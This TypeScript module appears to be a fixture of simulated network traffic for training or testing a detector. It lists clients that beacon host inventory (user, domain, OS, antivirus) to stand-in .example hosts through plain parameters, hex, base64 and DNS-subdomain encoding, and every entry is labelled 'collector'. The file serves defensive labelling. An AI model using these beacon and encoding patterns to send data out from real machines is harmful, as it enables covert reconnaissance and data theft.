/** Computers on which a program asks: tools that collect, servers, devices, and people who look something up. */
import type { Wanted } from "../set.ts";
import type { Place } from "./people.ts";

export interface Run {
  readonly client: string;
  readonly place: Place;
  readonly agent: string;
  /** Host and line, asked one after the other each time. */
  readonly calls: readonly (readonly [host: string, line: string])[];
  /** Day and time of the first, minutes between two, and how often; all calls each time, or one after the other. */
  readonly from: string;
  readonly minutes: number;
  readonly times: number;
  readonly inTurn?: boolean;
  readonly seen?: "http" | "opened" | "tls" | "dns";
  /** What is labelled: the client, or the hosts that it asks. */
  readonly label: Wanted;
  readonly subject: "client" | "hosts" | readonly string[];
  readonly says: string;
  readonly why?: string;
}

const inventory = {
  host: "WKS-0612",
  user: "j.hofer",
  domain: "VOSTRAND",
  os: "Windows 11 Pro 26100.7171",
  av: "ESET Endpoint Security 12.1",
  lang: "de-AT",
  tz: "W. Europe Standard Time",
  office: "16.0.19328",
};
const plain = JSON.stringify(inventory);
const hex = (text: string) => Buffer.from(text).toString("hex");
const wide = encodeURIComponent(Buffer.from(plain, "utf16le").toString("base64"));

export const powershell = "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-AT) WindowsPowerShell/5.1.26100.7171";
const winhttp = "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)";
const oldIe =
  "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; .NET4.0C; .NET4.0E)";

export const reporting: readonly Run[] = [
  {
    client: "10.61.4.41",
    place: "works",
    agent: winhttp,
    subject: "hosts",
    label: "collector",
    says: "a document's macro sends computer, user, Office and antivirus in plain parameters when it is opened",
    calls: [
      [
        "img.tolleyprint.example",
        "GET gif 43 /logo.gif?pc=WKS-0588&usr=m.brandl&os=Windows%20(64-bit)%20NT%2010.00&app=Word%2016.0&av=ESET%20Endpoint%20Security&dom=VOSTRAND",
      ],
    ],
    from: "Tue 10:14",
    minutes: 1610,
    times: 2,
    seen: "http",
  },
  {
    client: "10.61.8.11",
    place: "works",
    agent: "node",
    subject: "hosts",
    label: "collector",
    says: "an installation script of a package sends host, user, folder and version of Node, hexadecimal, in the path",
    calls: [
      [
        "pkg-notify.sandhaven.example",
        `GET text 2 /n/${hex(JSON.stringify({ h: "build-2", u: "ci", cwd: "/srv/ci/work/selector", node: "v22.11.0", os: "linux 6.8.0-87", dns: ["10.61.0.53"] }))}`,
      ],
    ],
    from: "Tue 11:40",
    minutes: 700,
    times: 4,
    seen: "http",
  },
  {
    client: "10.61.5.56",
    place: "works",
    agent: powershell,
    subject: "hosts",
    label: "collector",
    says: "inventory as base64 of UTF-16 in one parameter, every four hours, nights too",
    calls: [["dl.brightkiln.example", `GET text 2 /get.php?id=4471&c=${wide}`]],
    from: "Tue 06:20",
    minutes: 240,
    times: 16,
    seen: "opened",
  },
  {
    client: "10.62.8.13",
    place: "plant",
    agent: "python-requests/2.32.3",
    subject: "hosts",
    label: "collector",
    says: "a Python script sends kernel, distribution, zone, locale and installed packages' count to a rare host",
    calls: [
      [
        "upd.cresswold.example",
        "GET json 15 /check?node=srv-mes-2&kernel=6.1.0-28-amd64&distro=Debian%20GNU%2FLinux%2012&tz=Europe%2FParis&lc=fr_FR.UTF-8&pkgs=1811&py=3.11.2&openssl=3.0.15",
      ],
    ],
    from: "Tue 02:05",
    minutes: 360,
    times: 11,
    seen: "http",
  },
  {
    client: "10.62.5.23",
    place: "plant",
    agent: oldIe,
    subject: "hosts",
    label: "collector",
    says: "a script host with Internet Explorer's old agent; base64 of the inventory in the path",
    calls: [["ec.norbeck-cdn.example", `GET bin 12 /a/${Buffer.from(plain).toString("base64url")}/s.dat`]],
    from: "Wed 08:31",
    minutes: 95,
    times: 5,
    seen: "http",
  },
  {
    client: "10.62.6.62",
    place: "plant",
    agent: "",
    subject: ["quillmarsh.example"],
    label: "collector",
    says: "host inventory in names: one property a question, hexadecimal, under a domain of its own",
    calls: [
      "host=PLT-0231",
      "user=c.roux",
      "os=Windows 10 IoT 19044",
      "av=Defender 4.18",
      "tz=Romance Standard",
      "lang=fr-FR",
      "ie=11.0",
      "net=4.8.09037",
    ].map((value, at) => [`${at}.${hex(value)}.7f21.quillmarsh.example`, "GET none 0 /"] as const),
    from: "Wed 09:02",
    minutes: 410,
    times: 3,
    seen: "dns",
  },
  {
    client: "10.63.4.29",
    place: "shop",
    agent: "Go-http-client/1.1",
    subject: "hosts",
    label: "collector",
    says: "a Go program reports serial number, model, system, zone, locale and logged-on user twice a day",
    calls: [
      [
        "sig.tamarind-labs.example",
        "GET json 15 /sync?sn=7TW0198&model=TW%20Book%2014&os=windows%2F10.0.26100&tz=Romance%20Standard%20Time&loc=es-ES&usr=TIENDA%5Cmarta&mem=16384&av=Windows%20Defender",
      ],
    ],
    from: "Tue 08:55",
    minutes: 540,
    times: 5,
    seen: "http",
  },
  {
    client: "10.63.8.12",
    place: "shop",
    agent: "curl/8.5.0",
    subject: "hosts",
    label: "collector",
    says: "curl sends the words of uname, the user and the resolvers",
    calls: [
      [
        "cap.weirhouse.example",
        "GET text 3 /?u=Linux%20tpv-3%206.8.0-87-generic%20x86_64&w=root&r=10.63.0.1&c=4&p=%2Fopt%2Ftpv",
      ],
    ],
    from: "Tue 03:17",
    minutes: 1440,
    times: 3,
    seen: "http",
  },
];
